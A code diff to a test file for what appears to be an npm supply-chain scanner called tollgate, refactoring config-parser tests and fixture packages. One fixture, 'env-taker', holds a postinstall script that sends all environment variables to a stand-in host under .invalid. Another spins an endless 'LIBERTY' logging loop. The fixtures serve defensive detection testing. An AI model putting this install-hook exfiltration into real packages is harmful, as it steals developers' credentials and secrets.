@@ -25,16 +25,14 @@ function problemsOf(text: string): string[] {
 
 describe('config parser: every mistake at once, at its line and column', () => {
   test('three mistakes in one file are three lines, in file order, each file:line:column', () => {
-    const text = [
-      '{',
-      '  "failOn": "clean",',
-      '  "allow": [',
-      '    { "package": "left-pad@1.3.0", "reason": "reviewed in #7" },',
-      '    { "package": "lodash@^4", "reason": "reviewed" },',
-      '    { "package": "ms@2.1.3", "reason": "ok", "expires": "2030-02-30" }',
-      '  ]',
-      '}',
-    ].join('\n');
+    const text = `{
+  "failOn": "clean",
+  "allow": [
+    { "package": "left-pad@1.3.0", "reason": "reviewed in #7" },
+    { "package": "lodash@^4", "reason": "reviewed" },
+    { "package": "ms@2.1.3", "reason": "ok", "expires": "2030-02-30" }
+  ]
+}`;
     expect(problemsOf(text)).toEqual([
       'tollgate.config.json:2:13: "failOn" must be one of "malicious", "suspicious", "never" (got "clean")',
       'tollgate.config.json:5:18: allow[1]: "package": "lodash@^4" is not pinned to one exact version: write name@1.2.3, e.g. "lodash@1.2.3"; allows are per version, so the next release is judged again',
@@ -108,24 +106,15 @@ describe('findConfigFile: the nearest policy from a folder up to its repository 
 // --- scan and audit apply the same policy ---------------------------------------------------------
 
 const pj = (name: string, version: string, extra: object = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
-const stealer = (version: string): FixturePackage => ({
-  name: 'env-taker',
-  version,
-  files: {
-    'package.json': pj('env-taker', version, { scripts: { postinstall: 'node setup.js' } }),
-    'index.js': 'module.exports = {};\n',
-    'setup.js': "const https = require('https');\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(JSON.stringify(process.env));\n",
-  },
-});
+/** A fixture package: its manifest (with `scripts`) and files. Inert: hosts are under .invalid and nothing here is run. */
+const fixture = (name: string, version: string, scripts: Record<string, string>, files: Record<string, string>): FixturePackage => ({ name, version, files: { 'package.json': pj(name, version, { scripts }), ...files } });
+const SENDS_ENV = "const https = require('https');\nconst req = https.request('https://collector.invalid/c', { method: 'POST' });\nreq.on('error', () => {});\nreq.end(JSON.stringify(process.env));\n";
+const ENDLESS_LOG = "const msg = 'LIBERTY';\nfor (let i = 666; i < Infinity; i++) {\n  console.log(msg + i);\n}\nmodule.exports = {};\n";
 const FIXTURES: FixturePackage[] = [
-  stealer('2.3.1'),
-  stealer('2.3.2'),
-  {
-    name: 'loop-protest',
-    version: '6.6.6',
-    files: { 'package.json': pj('loop-protest', '6.6.6'), 'index.js': "const msg = 'LIBERTY';\nfor (let i = 666; i < Infinity; i++) {\n  console.log(msg + i);\n}\nmodule.exports = {};\n" },
-  },
-  { name: 'plain-lib', version: '1.0.0', files: { 'package.json': pj('plain-lib', '1.0.0'), 'index.js': 'module.exports = (a, b) => a + b;\n' } },
+  fixture('env-taker', '2.3.1', { postinstall: 'node setup.js' }, { 'index.js': 'module.exports = {};\n', 'setup.js': SENDS_ENV }),
+  fixture('env-taker', '2.3.2', { postinstall: 'node setup.js' }, { 'index.js': 'module.exports = {};\n', 'setup.js': SENDS_ENV }),
+  fixture('loop-protest', '6.6.6', {}, { 'index.js': ENDLESS_LOG }),
+  fixture('plain-lib', '1.0.0', {}, { 'index.js': 'module.exports = (a, b) => a + b;\n' }),
 ];
 
 const ROOT = path.resolve(import.meta.dirname, '..');
